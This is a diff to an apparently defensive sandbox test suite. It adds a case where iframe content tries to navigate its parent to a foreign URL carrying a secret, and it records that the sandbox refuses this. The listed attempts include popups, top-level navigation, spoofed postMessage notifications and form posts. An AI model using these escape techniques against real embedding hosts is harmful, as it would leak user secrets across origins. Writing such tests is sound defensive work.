@@ -58,6 +58,7 @@ const attacks = `
   await tried("host", () => top.document.title)
   await tried("popup", () => window.open(foreign + secret + "?popup") === null ? "refused" : "opened")
   await tried("top", () => { top.location = foreign + secret + "?top"; return "left" })
+  await tried("frame", () => { parent.location = foreign + secret + "?frame"; return "left" })
   await tried("hostMessage", () => { top.postMessage({ jsonrpc: "2.0", method: "notifications/message", params: { level: "info", data: "spoofed" } }, "*") })
   await tried("sandboxMessage", () => { parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/sandbox-resource-ready", params: { html: "<p>other" } }, "*") })
   const form = Object.assign(document.createElement("form"), { action: foreign + secret + "?form", method: "post" })
@@ -102,6 +103,7 @@ if (chromium === undefined) {
               host: "refused",
               popup: "refused",
               top: "refused",
+              frame: "refused",
               // Sent, and received by nobody: the frame of the sandbox is the only source that the host listens to.
               hostMessage: "nothing",
               sandboxMessage: "nothing",
